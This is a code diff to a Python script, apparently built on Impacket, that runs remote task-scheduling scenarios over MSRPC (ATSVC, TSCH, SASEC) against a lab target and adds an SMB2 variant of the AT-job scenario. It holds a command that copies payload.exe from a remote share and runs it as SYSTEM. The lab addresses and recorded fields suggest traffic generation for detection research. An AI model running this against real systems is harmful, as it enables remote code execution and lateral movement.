@@ -295,9 +295,10 @@ def scen_tcp_krb(a):
                 op_sequence=["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"])
 
 
-def scen_at_smb1(a):
-    """ATSVC NetrJobAdd over SMB1 \\pipe\\atsvc, no RPC authentication (level NONE)."""
-    conn, dce = smb_dce(a, smb.SMB_DIALECT, 445, RPC_C_AUTHN_LEVEL_NONE)
+def scen_at_smb1(a, dialect=smb.SMB_DIALECT, level=RPC_C_AUTHN_LEVEL_NONE):
+    """ATSVC NetrJobAdd over SMB1 \\pipe\\atsvc, no RPC authentication (level NONE); or over SMB2 with
+    NTLMSSP at level CONNECT (at-smb2)."""
+    conn, dce = smb_dce(a, dialect, 445, level)
     dce.bind(atsvc.MSRPC_UUID_ATSVC)
     info = atsvc.AT_INFO()
     command = "cmd.exe /c copy \\\\10.77.0.1\\share\\payload.exe C:\\Windows\\Temp\\payload.exe & C:\\Windows\\Temp\\payload.exe"
@@ -312,8 +313,8 @@ def scen_at_smb1(a):
     dce.disconnect()
     dialect = conn.getDialect()
     conn.logoff()
-    return dict(interface="ATSVC", auth_level=1, transport="ncacn_np:\\pipe\\atsvc",
-                smb_dialect="NT LM 0.12" if dialect == smb.SMB_DIALECT else str(dialect), server_name="\\\\10.77.0.2",
+    return dict(interface="ATSVC", auth_level=level, transport="ncacn_np:\\pipe\\atsvc",
+                smb_dialect="NT LM 0.12" if dialect == smb.SMB_DIALECT else "0x%04x" % dialect, server_name="\\\\10.77.0.2",
                 command=command, job_time_ms=info["JobTime"], job_flags=JOB_NONINTERACTIVE, job_id=job,
                 run_as="SYSTEM (AT jobs run as LocalSystem)", op_sequence=["NetrJobAdd", "NetrJobDel"])
 
@@ -364,7 +365,7 @@ def scen_sasec(a):
 def main():
     p = argparse.ArgumentParser(description=__doc__)
     p.add_argument("scenario", choices=["atexec-clear", "tsch-smb2-clear", "tcp", "tcp-ndr64", "at-smb1", "sasec-smb2", "nbss139",
-                                               "atexec-smb1", "atexec-smb1-clear", "at-smb1-trans", "tcp-krb"])
+                                               "atexec-smb1", "atexec-smb1-clear", "at-smb1-trans", "tcp-krb", "at-smb2"])
     p.add_argument("--target", required=True)
     p.add_argument("--user", default="alice")
     p.add_argument("--domain", default="LAB")
@@ -388,6 +389,8 @@ def main():
         out = scen_tcp(a, ndr64=True)
     elif a.scenario == "at-smb1":
         out = scen_at_smb1(a)
+    elif a.scenario == "at-smb2":
+        out = scen_at_smb1(a, None, RPC_C_AUTHN_LEVEL_CONNECT)
     elif a.scenario == "atexec-smb1":
         out = scen_atexec_smb1(a, sealed=True)
     elif a.scenario == "atexec-smb1-clear":
